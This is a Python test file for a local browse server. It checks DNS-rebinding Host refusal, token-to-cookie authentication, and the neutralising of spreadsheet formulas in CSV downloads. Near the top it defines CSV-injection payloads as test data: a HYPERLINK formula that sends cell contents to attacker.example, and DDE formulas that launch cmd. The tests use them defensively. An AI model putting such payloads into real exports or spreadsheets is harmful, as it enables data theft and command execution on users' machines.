"""`intake browse`'s gate against a real server on a free loopback port: a request naming another
Host is refused (DNS rebinding), nothing is served without the printed token, the token is traded
for a cookie once, and a CSV download of mails whose subjects are formulas carries them as text."""
from __future__ import annotations

import csv
import http.client
import io
import json
import urllib.parse

import pytest

from pipeline.app.runner import run
from pipeline.cli.browseguard import TOKEN_PARAM, Gate
from pipeline.cli.datasette import DATABASE, view_path
from pipeline.demo.samples import at, catalogue, mail, sample_id
from pipeline.demo.samples.texts import ZHANG
from pipeline.exports.csvcells import neutral_cell, neutral_csv
from pipeline.store.raw import RawStore
from tests.pipeline.cli.test_browse import Server, browsing, fingerprint
from tests.support.workspace import make_workspace

HYPERLINK = '=HYPERLINK("http://attacker.example/?q="&A1,"点击核验")'
DDE = "@SUM(1+1)*cmd|' /c calc'!A0"
MINUS = "-2+3+cmd|' /c calc'!A0"
FORMULAS = (HYPERLINK, DDE, MINUS)


@pytest.fixture(scope="module")
def workspace(tmp_path_factory):
    """GIVEN three mails whose subjects are spreadsheet formulas, then an innocent complete
    case WHEN `intake run` processes them THEN each is decided once and kept."""
    root = tmp_path_factory.mktemp("browseguard")
    workspace = make_workspace(root, [])
    for number, subject in enumerate(FORMULAS, 1):
        (root / "mail" / "new" / f"{number}.formula.eml").write_bytes(mail(
            subject, ZHANG.sender(), "请问申报截止时间？", [], date=at(2024, 4, 8, 9, number),
            message_id=sample_id(f"formula-{number}")))
    complete = next(s for s in catalogue() if s.key == "gpipc-park-complete")
    (root / "mail" / "new" / "9.complete.eml").write_bytes(complete.build())
    run(workspace.config())
    return workspace


@pytest.fixture(scope="module")
def server(workspace):
    with browsing(workspace) as running:
        yield running


def fetch(server: Server, path: str, host: str | None = None,
          cookie: str | None = None) -> tuple[int, http.client.HTTPMessage, bytes]:
    """One GET as sent, Host and Cookie as given (None: the server's own Host, no cookie),
    redirects not followed."""
    parts = urllib.parse.urlsplit(server.url)
    connection = http.client.HTTPConnection(parts.hostname, parts.port, timeout=10)
    try:
        connection.putrequest("GET", path, skip_host=True)
        connection.putheader("Host", host if host is not None else parts.netloc)
        if cookie:
            connection.putheader("Cookie", cookie)
        connection.endheaders()
        response = connection.getresponse()
        return response.status, response.headers, response.read()
    finally:
        connection.close()


def test_the_mails_are_kept_and_decided_once_and_the_next_one_normally(workspace):
    messages = workspace.query("select sha256, status, verdict from messages order by id")
    assert len(messages) == 4 and {m["status"] for m in messages} == {"done"}
    assert messages[-1]["verdict"] == "complete"
    assert all(RawStore(workspace.config().raw).path_for(m["sha256"]).is_file() for m in messages)


@pytest.mark.parametrize("host", ["attacker.example", "attacker.example:{port}",
                                  "127.0.0.1.attacker.example:{port}", "127.0.0.1:1", ""])
def test_a_request_naming_another_host_is_refused_even_with_the_cookie(server, host):
    port = urllib.parse.urlsplit(server.url).port
    for path in ("/", view_path("来信", ".json"), f"/{DATABASE}/outbox.json"):
        status, _, body = fetch(server, path, host.format(port=port), server.cookie)
        assert status == 421 and b"Misdirected" in body
        assert b"cases@example.org" not in body


@pytest.mark.parametrize("host", ["127.0.0.1:{port}", "localhost:{port}", "[::1]:{port}",
                                  "LOCALHOST:{port}"])
def test_the_machines_own_names_are_answered(server, host):
    port = urllib.parse.urlsplit(server.url).port
    assert fetch(server, "/-/versions.json", host.format(port=port), server.cookie)[0] == 200


def test_without_the_token_nothing_is_served(server):
    for path in ("/", f"/{DATABASE}", f"/{DATABASE}/outbox.json", view_path("来信", ".csv"),
                 "/-/plugins.json"):
        status, headers, body = fetch(server, path)
        assert status == 401 and TOKEN_PARAM.encode() in body
        assert "set-cookie" not in headers
    status, headers, _ = fetch(server, f"/{DATABASE}?{TOKEN_PARAM}=guessed")
    assert status == 403 and "set-cookie" not in headers
    assert fetch(server, "/", cookie=f"{server.cookie}x")[0] == 401


def test_the_token_is_traded_once_for_a_strict_cookie_and_leaves_the_address(server):
    status, headers, _ = fetch(server, f"/{DATABASE}?{TOKEN_PARAM}={server.token}&_size=5")
    assert status == 303 and headers["location"] == f"/{DATABASE}?_size=5"
    cookie = headers["set-cookie"]
    assert cookie.startswith(f"{server.cookie};") and "HttpOnly" in cookie
    assert "SameSite=Strict" in cookie
    assert fetch(server, f"/{DATABASE}?_size=5", cookie=server.cookie)[0] == 200


def csv_rows(server: Server, query: str) -> list[list[str]]:
    status, headers, body = fetch(server, view_path("来信", ".csv") + query, cookie=server.cookie)
    assert status == 200, body[:500]
    return list(csv.reader(io.StringIO(body.decode("utf-8"))))


@pytest.mark.parametrize("query", ["?_size=max", "?_size=max&_dl=1"])
def test_a_csv_download_carries_formulas_as_text(server, query):
    rows = csv_rows(server, query)
    subjects = [row[rows[0].index("主题")] for row in rows[1:]]
    assert {f"'{formula}" for formula in FORMULAS} <= set(subjects)
    assert not any(s.startswith(("=", "+", "-", "@")) for s in subjects)


def test_the_json_still_shows_what_the_mail_said(server):
    status, _, body = fetch(server, view_path("来信", ".json?_shape=array&_size=max"),
                            cookie=server.cookie)
    assert status == 200 and HYPERLINK in {row["主题"] for row in json.loads(body)}


def test_a_csv_stream_of_every_row_is_off(server):
    status, _, _ = fetch(server, view_path("来信", ".csv?_stream=on"), cookie=server.cookie)
    assert status == 400


def test_nothing_the_gate_served_wrote(server):
    assert fingerprint(server.database) == server.before


# ---- the pieces ------------------------------------------------------------------------

@pytest.mark.parametrize("cell, shown", [
    ("=1+1", "'=1+1"), ("+1+cmd", "'+1+cmd"), ("-1-1", "'-1-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-3", "-3"), ("+8613800000000", "+8613800000000"),
    ("1.5e3", "1.5e3"), ("示例单位", "示例单位"), ("a=1", "a=1"), ("", ""),
])
def test_neutral_cell(cell, shown):
    assert neutral_cell(cell) == shown


def test_neutral_csv_keeps_quoting_and_lines():
    text = '编号,主题\r\n1,"=HYPERLINK(""http://x"",""y"")"\r\n2,"第一行\n=第二行"\r\n'
    assert list(csv.reader(io.StringIO(neutral_csv(text)))) == [
        ["编号", "主题"], ["1", "'=HYPERLINK(\"http://x\",\"y\")"], ["2", "第一行\n=第二行"]]


def test_the_gate_names_loopback_with_the_port_and_the_address_listened_on():
    gate = Gate.for_address("127.0.0.1", 8001, "t")
    assert gate.hosts == {"127.0.0.1:8001", "localhost:8001", "[::1]:8001"}
    assert Gate.for_address("0.0.0.0", 8001, "t").hosts == gate.hosts
    assert "192.0.2.7:8001" in Gate.for_address("192.0.2.7", 8001, "t").hosts
    assert "localhost" in Gate.for_address("127.0.0.1", 80, "t").hosts
    assert gate.cookie_ok("a=b; intake_browse_8001=t") and not gate.cookie_ok("intake_browse_8001=u")
    assert not gate.cookie_ok('intake_browse_8001="t')
